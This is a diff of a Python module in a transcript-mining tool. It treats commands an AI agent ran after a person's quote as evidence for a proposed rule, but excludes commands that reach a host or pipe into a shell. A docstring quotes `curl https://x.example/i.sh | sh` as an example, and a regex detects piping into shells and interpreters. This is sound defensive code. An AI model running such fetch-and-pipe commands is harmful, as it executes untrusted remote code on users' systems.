@@ -21,19 +21,31 @@ restated rule more specific than the person's ("Run ruff before you commit." bec
 "Run `ruff check` before every commit.", tests/test_apply_agents.py), and a span made
 from what the agent ran (a tool call in the quote's context) is often right. Words
 outside a span or a URL are a rule's own, the person's to read in the diff.
+
+A command the agent ran right after a quote, among that turn's tool calls, is evidence
+too: "run ruff format before you commit", then the agent ran `ruff format .`, and the
+judge wrote "Run `ruff format .` before every commit." (an end-to-end run said that
+command was nobody's). A directive carries no commands (only a fix does), so they are
+read back from the quotes' sessions, and only when a span is unsaid otherwise; a span
+counts when `command_ran` (learn.mining.commands, the one comparison of commands) finds
+it among them, never when the agent ran it before the quote or the person refused it.
 """
 
 from __future__ import annotations
 
 import re
 import unicodedata
-from collections.abc import Iterable
-from typing import Final
+from collections.abc import Iterable, Mapping, Sequence
+from typing import TYPE_CHECKING, Final
 
+from learn.mining.commands import command_ran
 from learn.records.proposal import Proposal
 from learn.report.edits import RuleEdit
 from learn.report.words import flatten, plural
 from learn.textfold import fold
+
+if TYPE_CHECKING:
+    from learn.transcripts.view.model import Session
 
 _SPAN: Final = re.compile(r"(`+)(.+?)\1", re.DOTALL)
 _URL: Final = re.compile(r"\b[a-z][a-z0-9+.-]*://[^\s<>`'\")\]]+", re.IGNORECASE)
@@ -93,14 +105,89 @@ def named(text: str) -> list[str]:
     return [x for x in out if x]
 
 
-def unsaid(text: str, said: Iterable[str]) -> list[str]:
-    """What `text` names exactly (`named`) that none of `said` holds."""
+def unsaid(text: str, said: Iterable[str], ran: Sequence[str] = ()) -> list[str]:
+    """What `text` names exactly (`named`) that none of `said` holds and that is none of
+    the commands `ran` (`commands_after`)."""
     hay = "\n".join(_folded(s) for s in said if s)
     out: list[str] = []
     for thing in named(text):
         pieces = [_folded(x) for x in _ARGUMENT.split(thing)]
-        if not all(piece in hay for piece in pieces if piece):
+        if not all(piece in hay for piece in pieces if piece) and (
+                _reaches_out(thing) or not command_ran(thing, ran)):
             out.append(thing)
+    return list(dict.fromkeys(out))
+
+
+# Piped into a shell or an interpreter: what it runs is whatever arrives.
+_INTO_SHELL: Final = re.compile(
+    r"\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k|fi)?sh|python[\d.]*|node|perl|ruby|pwsh|powershell|iex)\b",
+    re.IGNORECASE)
+
+
+def _reaches_out(thing: str) -> bool:
+    """Whether a named command fetches from, or names, a host, or pipes into a shell: the
+    agent having run it is no sign the person asked for it (an agent steered by what it
+    read runs `curl https://x.example/i.sh | sh` right after any quote), so only the
+    person's words ground it."""
+    return bool(_URL.search(thing) or _HOST.search(thing) or _INTO_SHELL.search(thing))
+
+
+def commands_after(session: Session, quotes: Iterable[str]) -> list[str]:
+    """The commands the agent ran (redacted) in the turn each of `quotes` was typed in:
+    the tool calls after that typed turn, up to the next one, none the person refused.
+    A command run before the quote is what the person corrected, not what they asked."""
+    import msgspec
+
+    from learn.mining.commands import unrefused_commands
+    from learn.mining.verify import quote_found
+    from learn.redaction.redact import redact
+    from learn.transcripts.view.model import HumanTurn, ToolCall, reading_order
+
+    wanted = [q for q in quotes if q]
+    calls: list[ToolCall] = []
+    after = False
+    for item in reading_order(session):
+        if isinstance(item, HumanTurn):
+            after = any(quote_found(q, (redact(item.text.strip()),)) for q in wanted)
+        elif after and isinstance(item, ToolCall):
+            calls.append(item)
+    turn = msgspec.structs.replace(session, tool_calls=tuple(calls))
+    return [redact(c) for c in unrefused_commands(turn)]
+
+
+def _sessions_read() -> Mapping[str, str]:
+    """session id -> its transcript's path, from the scan learn's runs keep ({} when
+    there is no store, or one learn cannot open: the note then stays, the cautious way)."""
+    from learn.store import open_store
+
+    try:
+        with open_store(readonly=True) as store:
+            return {sid: s.path for sid, s in store.scans.scanned_sessions().items()}
+    except Exception:
+        return {}
+
+
+def ran_after_quotes(p: Proposal) -> list[str]:
+    """The commands the agent ran right after `p`'s quotes (`commands_after`), read again
+    from the sessions' transcripts; a session that cannot be read adds none."""
+    from pathlib import Path
+
+    from learn.transcripts.parser import parse
+    from learn.transcripts.view.session import build_session
+
+    by_session: dict[str, list[str]] = {}
+    for q in p.quotes:
+        by_session.setdefault(q.session_id, []).append(q.text)
+    paths = _sessions_read() if by_session else {}
+    out: list[str] = []
+    for sid, texts in by_session.items():
+        path = paths.get(sid)
+        try:
+            session = build_session(parse(Path(path))) if path else None
+        except (OSError, ValueError):
+            session = None
+        if session is not None:
+            out += commands_after(session, texts)
     return list(dict.fromkeys(out))
 
 
@@ -115,8 +202,9 @@ def unsaid_note(p: Proposal, edit: RuleEdit) -> str | None:
     words are the person's (`--edit`, an escalation of their applied rule)."""
     if edit.decision == "edited" or p.surface in _PERSONS_RULE:
         return None
-    missing = unsaid(f"{edit.text}\n{edit.body}", evidence(p))
-    if not missing:
+    text, said = f"{edit.text}\n{edit.body}", evidence(p)
+    # The sessions are read again only for a rule naming something nobody said.
+    if not unsaid(text, said) or not (missing := unsaid(text, said, ran_after_quotes(p))):
         return None
     shown = ", ".join(f"`{flatten(m, 80).replace('`', '')}`" for m in missing[:3])
     return (f"{p.key}: the rule names {shown}, which none of its "
